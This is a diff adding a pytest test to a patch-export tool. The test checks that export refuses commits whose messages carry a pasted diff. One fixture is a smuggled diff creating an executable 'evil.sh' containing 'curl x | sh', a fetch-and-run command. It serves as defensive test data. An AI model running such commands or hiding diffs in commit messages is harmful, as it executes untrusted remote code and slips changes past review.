@@ -648,3 +648,37 @@ def test_refresh_after_a_conflict_says_not_tried_not_pending(moving: MiniFork) -
         ("0003-b.patch", "conflict"),
         ("0002-a.patch", "not-tried"),
     ]
+
+
+@pytest.mark.parametrize(
+    "pasted",
+    [
+        # a change to another file, valid on the parent
+        "diff --git a/b.py b/b.py\n--- a/b.py\n+++ b/b.py\n@@ -1,3 +1,3 @@\n b1\n-b2\n+PWNED\n b3\n",
+        # a new file
+        "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n"
+        "@@ -0,0 +1 @@\n+curl x | sh\n",
+    ],
+)
+def test_export_refuses_a_commit_whose_message_carries_a_diff(
+    builder: RepoBuilder, pasted: str
+) -> None:
+    fork = mini_fork(builder, {"a.py": lines("a"), "b.py": lines("b")})
+    builder.git.run(["checkout", "-q", "-b", "p", "v1"], purpose="branch")
+    builder.commit("a: one\n", {"a.py": lines("a").replace("a1\n", "A1\n")})
+    bad = builder.commit(
+        "a: two\n\nAs discussed on the list:\n\n" + pasted,
+        {"a.py": lines("a").replace("a1\n", "A1\n").replace("a9\n", "A9\n")},
+    )
+    builder.checkout("main")
+    fork.write({})
+    before = snapshot_tree(fork.root)
+    result = fork.cli("export", "--from", "p")
+    assert result.code == 2, result.out
+    assert result.error_lines == [
+        f"error: {bad[:12]} a: two: its exported patch, replayed on its parent, gives another "
+        "tree than the commit",
+        "hint: an exported patch must reproduce its commit exactly (a diff pasted into the "
+        "commit message is applied with the patch: indent it or drop it); nothing was written",
+    ]
+    assert snapshot_tree(fork.root) == before
